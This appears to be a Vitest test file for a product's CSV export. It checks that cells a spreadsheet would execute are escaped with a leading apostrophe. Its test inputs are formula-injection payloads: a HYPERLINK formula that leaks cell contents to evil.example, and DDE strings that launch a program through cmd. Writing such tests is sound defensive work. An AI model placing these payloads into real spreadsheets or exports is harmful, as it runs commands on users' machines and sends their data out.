import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { cellText, inertCell, toCsv } from '../../src/lib/csv.ts';

// Every CSV the product writes is inert: a cell a spreadsheet would run opens as text.
const read = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('inertCell', () => {
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'],
    ['+', '+cmd|" /C calc"!A0'],
    ['-', '-2+3+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+1)*cmd|" /C calc"!A0'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('a text starting with %s gets a leading apostrophe, and reads back as it was', (_prefix, value) => {
    expect(inertCell(value)).toBe(`'${value}`);
    expect(cellText(`'${value}`)).toBe(value);
    const [, row] = read(toCsv(['Client'], [[value]]));
    expect(row[0]).toBe(`'${value}`);
  });

  it('keeps numbers, plain-number texts, ordinary texts and empty cells as they are', () => {
    expect(inertCell(-12.5)).toBe(-12.5);
    expect(inertCell('-12.50')).toBe('-12.50');
    expect(inertCell('+3')).toBe('+3');
    expect(inertCell('Neema Mollel')).toBe('Neema Mollel');
    expect(inertCell('a=b')).toBe('a=b');
    expect(inertCell(null)).toBe('');
    expect(inertCell(undefined)).toBe('');
    expect(inertCell(Number.NaN)).toBe('');
    expect(inertCell(true)).toBe('true');
    expect(cellText("'quoted")).toBe("'quoted");
  });

  it('a phone number with a plus opens as text, not as a sum', () => {
    expect(inertCell('+255 754 000 111')).toBe("'+255 754 000 111");
  });

  it('makes the header row inert too', () => {
    expect(read(toCsv(['=cmd'], []))[0]).toEqual(["'=cmd"]);
  });
});
